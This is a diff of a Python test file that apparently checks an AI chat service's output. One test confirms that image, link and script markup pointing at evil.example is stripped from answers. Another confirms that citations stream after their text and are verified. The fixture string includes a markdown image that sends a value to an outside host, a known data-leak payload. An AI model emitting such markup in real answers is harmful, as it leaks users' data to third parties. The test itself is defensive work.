@@ -136,11 +136,24 @@ def test_tokens_are_those_that_the_models_server_counted(api: Api, stub: StubPro
 @pytest.mark.req("SE-07")
 def test_an_answer_contains_nothing_to_load_or_run(ask: Asking) -> None:
     told = "Rent ![x](https://evil.example/?rent=4200) <img src=//evil.example> [here](https://evil.example) <script>"
-    turn = ask(f"{told}\n\n[1]: https://evil.example\n\n```html\n<b>code</b>\n```")
+    turn = ask(f"{told} `List<T>`\n\n[1]: https://evil.example\n\n```html\n<b>code</b>\n```")
+    assert "`List<T>`" in turn.text
     assert turn.text == turn.one("message")["text"]
     for active in ("](", "<img", "<script", "[1]:"):
         assert active not in turn.text
     assert turn.text.endswith("```html\n<b>code</b>\n```")
+
+
+@pytest.mark.req("SE-15", "BX-01")
+def test_a_citation_follows_its_text_and_is_checked_against_what_was_written(ask: Asking) -> None:
+    number = ask.numbers()[BRAKE]
+    turn = ask(f"{{a}} List<T> says “{BRAKE}” [{number}] and so on.\nIt ends.")
+    assert turn.text == f"{{a}} List&lt;T> says “{BRAKE}” [{number}] and so on.\nIt ends."
+    assert turn.one("message")["text"] == turn.text
+    before = turn.events[: [event.type for event in turn.events].index("citation")]
+    text_before = "".join(event.data["text"] for event in before if event.type == "token")
+    assert f"[{number}]" in text_before
+    assert turn.one("citation")["verified"]
 
 
 @pytest.mark.req("SE-07")
